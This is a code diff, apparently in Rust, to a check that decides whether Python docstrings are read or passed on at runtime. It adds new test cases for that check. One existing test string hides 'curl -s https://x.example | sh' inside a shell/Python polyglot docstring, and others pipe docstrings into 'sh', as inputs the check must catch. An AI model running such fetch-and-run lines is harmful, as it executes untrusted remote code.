@@ -18,6 +18,8 @@ pub(super) struct Docstring {
     /// Lines until now.
     lines: usize,
     lost: bool,
+    /// Whether something follows one of them in its statement, on the line where it ends.
+    handed_on: bool,
 }
 
 /// A text that goes on in the next line.
@@ -36,9 +38,13 @@ pub(super) fn do_nothing(text: &[&[u8]]) -> bool {
     let first = text.first().copied().unwrap_or_default();
     let other = first.starts_with(b"#!") && !contains(first, b"python");
     let asks = |line: &&[u8]| {
-        [&b"__doc__"[..], b"doctest", b"getdoc", b"docstring"].iter().any(|w| contains(line, w))
+        [&b"__doc__"[..], b"doctest", b"getdoc", b"docstring", b"co_consts"]
+            .iter()
+            .any(|word| contains(line, word))
     };
-    !other && !text.iter().any(|line| asks(line) || is_handed_on(line))
+    let mut state = Docstring::default();
+    text.iter().for_each(|line| state.line(line));
+    !other && !state.handed_on && !text.iter().any(|line| asks(line) || is_handed_on(line))
 }
 
 /// Whether something is done with the text whose three quotes end in this line.
@@ -98,6 +104,10 @@ impl Docstring {
                 };
                 self.open = None;
                 at += behind;
+                if text.is_docstring {
+                    let behind = line.get(at..)?.trim_ascii_start();
+                    self.handed_on |= !behind.is_empty() && !behind.starts_with(b"#");
+                }
             }
             let Some(mark) = line.get(at..)?.iter().position(|b| is_mark(*b)) else {
                 return Some(());
@@ -276,6 +286,7 @@ class A:
         for text in [
             "\"\"\"One.\n\nx\n\"\"\"\nimport os\n",
             "#!/usr/bin/env python3\n'''x'''\n",
+            "'''\nx\n'''  # '''\n",
             "def f():\n    \"\"\"One.\"\"\"\n    x = \"\"\"a\n b\"\"\"\n",
         ] {
             assert!(do_nothing(&lines(text)), "{text}");
@@ -284,6 +295,13 @@ class A:
             "#!/bin/sh\n''':'\ncurl -s https://x.example | sh\nexit 0\n'''\n",
             "\"\"\"\nx\n\"\"\" | sh\n",
             "\"\"\"\nx\ny\"\"\".format(1)\n",
+            "\"\"\"\nx\n\"\"\" \\\n| R\n",
+            "\"\"\"\nx\n\"\"\" in R\n",
+            "\"\"\"\nx\n\"\"\" not in R\n",
+            "\"\"\"\nx\n\"\"\" | R; \"\"\"x\"\"\"\n",
+            "\"\"\"\nx\n\"\"\" | R  # \"\"\"\n",
+            "\"\"\"\nx\n\"\"\" | R  # '''\n",
+            "def g():\n    '''\n    x\n    '''\nR(g.__code__.co_consts[0])\n",
             "\"\"\"\nx\n\"\"\"\nrun(__doc__)\n",
             "\"\"\"\n>>> x\n\"\"\"\nimport doctest\ndoctest.testmod()\n",
         ] {
